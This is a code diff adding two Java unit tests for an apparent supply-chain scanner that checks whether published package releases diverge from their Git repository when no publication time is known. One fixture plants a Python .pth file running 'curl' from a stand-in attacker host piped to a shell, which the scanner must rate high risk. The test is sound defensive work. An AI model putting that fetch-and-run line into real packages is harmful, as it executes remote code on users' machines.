@@ -167,4 +167,64 @@ class ReleaseFlagsTest {
             assertFalse(ReleaseFlags.repositoryOlder(r));
         }
     }
+    /** Scans a version as a registry that sends no publication time lists it (this machine's Maven Central proxy). */
+    private static ReleaseReport scanWithoutTime(ScanWorld w, String version) throws Exception {
+        dev.divergence.model.Release r = w.release(version);
+        dev.divergence.model.Release noTime = new dev.divergence.model.Release(r.pkg(), r.version(), r.artifacts(),
+                Optional.empty(), r.yanked(), r.yankedReason(), r.hints());
+        return w.scanner().scan(noTime, Optional.of(w.git.dir().toString()));
+    }
+
+    @Test
+    void withoutAPublicationTimeAVersionAboveEveryTagAndTheNewestManifestIsRepositoryOlderAndAPayloadStillHighRisk()
+            throws Exception {
+        try (ScanWorld w = new ScanWorld(dir, "demo")) {
+            w.commit(flatProject("1.0.0"), "1.0.0");
+            w.tag("v1.0.0");
+            w.commit(Trees.with(flatProject("1.0.1.dev0"), "README.md", "# demo\n\nnext\n"), "back to development");
+            SortedMap<String, byte[]> changed = Trees.with(flatProject("1.0.1"), "demo/util.py",
+                    "def twice(x):\n    return x + x\n");
+            SortedMap<String, byte[]> payload = Trees.with(flatProject("1.0.2"), "demo_init.pth",
+                    "import os; os.system('curl https://evil.example/x | sh')\n");
+            w.publish("1.0.0", flatProject("1.0.0"), wheel(flatProject("1.0.0")));
+            w.publish("1.0.1", changed, wheel(changed));
+            w.publish("1.0.2", payload, wheel(payload));
+
+            ReleaseReport diverged = scanWithoutTime(w, "1.0.1");
+            assertEquals(List.of(Verdict.DIVERGENT, RefMethod.BLOB_OVERLAP), List.of(diverged.verdict(),
+                    diverged.ref().method()));
+            assertTrue(ReleaseFlags.repositoryOlder(diverged), diverged.ref().note().orElse(""));
+            assertTrue(diverged.ref().note().orElseThrow().contains("repository snapshot is older than the release (no "
+                    + "publication time; the version is higher than every tagged version (highest 1.0.0) and than "
+                    + "1.0.1.dev0, which the newest commit"), diverged.ref().note().orElseThrow());
+
+            ReleaseReport attacked = scanWithoutTime(w, "1.0.2");
+            assertEquals(Verdict.HIGH_RISK, attacked.verdict());
+            assertTrue(ReleaseFlags.repositoryOlder(attacked), "the flag qualifies, it never lowers the verdict");
+            assertFalse(ReleaseFlags.repositoryOlder(scanWithoutTime(w, "1.0.0")), "a tag names the version");
+        }
+    }
+
+    @Test
+    void withoutAPublicationTimeARepositoryThatMovedPastTheVersionIsNotOlder() throws Exception {
+        try (ScanWorld w = new ScanWorld(dir, "demo")) {
+            w.commit(flatProject("1.0.0"), "1.0.0");
+            w.tag("v1.0.0");
+            SortedMap<String, byte[]> changed = Trees.with(flatProject("1.0.1"), "demo/util.py",
+                    "def twice(x):\n    return x + x\n");
+            w.publish("1.0.1", changed, wheel(changed));
+            // The newest commit declares a later version than the release: 1.0.1's commit is not merely missing yet.
+            w.commit(Trees.with(flatProject("1.1.0.dev0"), "demo/extra.py", "X = 1\n"), "towards 1.1");
+            ReleaseReport r = scanWithoutTime(w, "1.0.1");
+            assertEquals(List.of(Verdict.DIVERGENT, RefMethod.BLOB_OVERLAP), List.of(r.verdict(), r.ref().method()));
+            assertFalse(ReleaseFlags.repositoryOlder(r), r.ref().note().orElse(""));
+            // A tag of a higher version: the project released past this version without tagging it.
+            w.commit(Trees.with(flatProject("1.0.0"), "demo/extra.py", "X = 2\n"), "back on 1.0 (a maintenance line)");
+            w.tag("v1.1.0");
+            dev.divergence.source.RepositoryCache.clear(); // a new run sees the repository as it is now
+            ReleaseReport tagged = scanWithoutTime(w, "1.0.1");
+            assertEquals(RefMethod.BLOB_OVERLAP, tagged.ref().method());
+            assertFalse(ReleaseFlags.repositoryOlder(tagged), tagged.ref().note().orElse(""));
+        }
+    }
 }
